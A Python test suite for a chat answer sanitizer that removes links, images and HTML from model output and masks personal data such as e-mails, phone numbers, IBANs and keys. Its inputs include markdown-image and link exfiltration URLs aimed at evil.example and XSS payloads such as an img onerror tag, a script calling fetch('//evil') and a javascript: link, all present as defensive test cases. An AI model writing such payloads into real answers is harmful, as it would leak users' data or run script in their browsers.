"""What a model writes is shown without links, pictures and HTML, its personal data as the settings say."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from answering.answer_stream import AnswerStream, Delta
from answering.cleaning.cleaner import Cleaner
from answering.values.personal_data import PersonalData
from chat.web.answers.rendering import blocks
from citations.checked import CheckedQuote
from citations.choices import OnPage
from citations.parse import Quotation


def shown(text: str, policy: str = PersonalData.OFF, *, cuts: list[int] | None = None) -> str:
    stream = AnswerStream(Cleaner(policy=policy))
    for cut in cuts or []:
        stream.receive(text[:cut])
    stream.receive(text, complete=True)
    return stream.shown


@pytest.mark.parametrize(
    ("written", "seen"),
    [
        ("See [the terms](https://evil.example/?d=secret) now.", "See the terms now."),
        ("![x](https://evil.example/p.png?d=1)Sixty days.", "xSixty days."),
        ("Go to https://evil.example/leak?data=42#x today.", "Go to evil.example/leak today."),
        ("&#104;ttps://evil.example/leak?data=42", "evil.example/leak"),
        ("https\\://evil.example/leak?data=42", "evil.example/leak"),
        ("https://https://evil.example/", "evil.example/"),
        ("&lt;b&gt; and 1\\. stay", "&lt;b&gt; and 1\\. stay"),
        ("<https://evil.example/a?b>", "evil.example/a"),
        ("A <b>bold</b> <img src=x onerror=alert(1)> word", "A bold  word"),
        ("One <script>fetch('//evil')</script> two", "One  two"),
        ("Less: a < b, and 5 <6 too.", "Less: a < b, and 5 <6 too."),
        ("[text [nested] more](http://evil.example)", "text [nested] more"),
        ("[a](javascript:alert(1))", "a"),
        ("See [this][1].\n\n[1]: http://evil.example/?q\n", "See [this][1].\n\n"),
        ("Clause [60] and \\[not a link\\] stay.", "Clause [60] and \\[not a link\\] stay."),
        ("Write `<div>` there.", "Write `<div>` there."),
        ("```html\n<div>\n```\n[x](http://evil.example)", "```html\n<div>\n```\nx"),
        ("`\n\n[x](http://evil.example)\n\n`", "`\n\nx\n\n`"),
        ("\\`[x](http://evil.example)\\`", "\\`x\\`"),
    ],
)
def test_nothing_that_leads_out_of_the_house_is_left(written: str, seen: str) -> None:
    assert shown(written) == seen


@pytest.mark.parametrize(
    "written",
    [
        "Write to bob@example\\.org.",
        "Write to bob&#64;example.org.",
        "Write to b**ob**@example.org.",
        "Card 4111 **1111** 1111 1111.",
        "Call +49 170 **1234567** today.",
        "IBAN DE89 3704 0044 **0532** 0130 00.",
        "Card 4111\u00a01111\u00a01111\u00a01111.",
        "Write to bob@exam\u00adple.org.",
        "Write to bob\uff20example.org.",
        "电话:13800138000 吧",
        "IBAN de89 3704 0044 0532 0130 00",
        "aws_secret_access_key = wJalrXUtnFEMI7K",
        "password hunter22x",
    ],
)
def test_personal_data_are_masked_as_they_are_read(written: str) -> None:
    rendered = "".join(blocks(shown(written, PersonalData.MASK)))
    for datum in ("example", "1111", "1234567", "0532", "13800138000", "wJalr", "hunter22"):
        assert datum not in rendered
    assert "masked" in rendered


def test_a_link_around_a_citation_is_none() -> None:
    assert "evil" not in shown("[sixty /citation[c1, sixty days] days](https://evil.example/?x=1) hold.")


SAMPLES = (
    "See [the terms](https://evil.example/?d=secret) or <b>this</b>, and write to jane@example.com.\n\n"
    "Sixty days /citation[c1, sixty (60) days]. Call +44 20 7946 0958. IBAN DE89 3704 0044 0532 0130 00.\n"
    "`<code>` ends <img src=x> https://a.example/b?c=1 here. [60] a < b."
)


@pytest.mark.parametrize("policy", [PersonalData.OFF, PersonalData.MASK])
@given(cuts=st.lists(st.integers(min_value=0, max_value=len(SAMPLES)), max_size=25).map(sorted))
@settings(max_examples=60)
def test_however_the_text_arrives_the_result_is_the_same(policy: str, cuts: list[int]) -> None:
    assert shown(SAMPLES, policy, cuts=cuts) == shown(SAMPLES, policy)


def test_no_piece_of_what_is_masked_is_shown_on_the_way() -> None:
    text = "Her number is +44 20 7946 0958, her address jane.doe@example.com, he said. More follows. "
    stream = AnswerStream(Cleaner(policy=PersonalData.MASK))
    sent = ""
    for end in range(len(text) + 1):
        new = stream.receive(text[:end], complete=end == len(text))
        sent += "".join(each.text for each in new if isinstance(each, Delta))
        assert "7946" not in sent
        assert "jane" not in sent
    assert "‹telephone number masked›" in sent
    assert "‹e-mail address masked›" in sent


def test_a_masked_quote_says_so() -> None:
    cleaner = Cleaner(policy=PersonalData.MASK)
    citation = CheckedQuote(
        on_page=OnPage.EXACT,
        quote="Write to jane@example.com.",
        written="Write to jane@example.com.",
        claim="Her address is jane@example.com",
        checks=[{"name": "x", "detail": "jane@example.com"}],
        place_in_file="Letters › To jane@example.com",
    )
    citation = cleaner.cited(citation)
    assert citation.quote == "Write to ‹e-mail address masked›."
    assert citation.masked == ["e-mail address"]
    assert "jane" not in f"{citation.claim}{citation.written}{citation.checks}{citation.place_in_file}"
    assert cleaner.told == "Masked in this answer, as the datasource's settings require: 1 e-mail address."


def test_a_warning_counts_each_once_and_hides_nothing() -> None:
    cleaner = Cleaner(policy=PersonalData.WARN)
    stream = AnswerStream(cleaner)
    new = stream.receive(
        "Write to jane@example.com, jane@example.com. /citation[c1, jane@example.com]", complete=True
    )
    assert any(isinstance(each, Quotation) for each in new)
    assert stream.shown.startswith("Write to jane@example.com")
    assert cleaner.told.startswith("This answer shows personal data or keys: 1 e-mail address.")


def test_what_a_judge_says_is_masked() -> None:
    said = "The passage names jane@example.com."
    citation = CheckedQuote(reason=said, judge={"supported": False, "reason": said, "model": "m"})
    citation = Cleaner(policy=PersonalData.MASK).judged(citation)
    assert "jane" not in f"{citation.reason}{citation.judge}"
    assert "‹e-mail address masked›" in citation.reason
